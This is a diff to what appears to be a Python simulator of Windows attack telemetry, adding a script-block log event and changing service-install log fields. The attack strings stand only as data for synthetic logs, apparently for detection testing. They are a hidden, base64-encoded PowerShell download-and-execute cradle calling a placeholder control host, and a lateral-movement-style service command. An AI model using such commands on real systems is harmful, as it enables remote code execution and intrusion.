@@ -106,6 +106,7 @@ def _infected(attack: Attack, scene: _Scene, at: int) -> Process:
         code = f"IEX (New-Object Net.WebClient).DownloadString('https://{_CONTROL}/a')"
         encoded = base64.b64encode(code.encode("utf-16-le")).decode()
         command = f'"{POWERSHELL.image}" -nop -w hidden -enc {encoded}'
+        world.products.windows.script_block(at + 3 * SECOND, host, scene.account, code)
         return sysmon.started(at + 2 * SECOND, host, script, POWERSHELL, command, user=user, logon=logon)
 
 
@@ -201,7 +202,8 @@ def _moved(attack: Attack, scene: _Scene, at: int, admin: Account) -> Account:
         windows.service_installed(
             at + 3 * SECOND,
             target.name,
-            windows.sid(erp),
+            erp,
+            logon,
             "kTxq",
             "%COMSPEC% /C echo c:\\windows\\kTxqWzBn.exe ^> %SYSTEMDRIVE%\\WINDOWS\\Temp\\o.txt",
         )
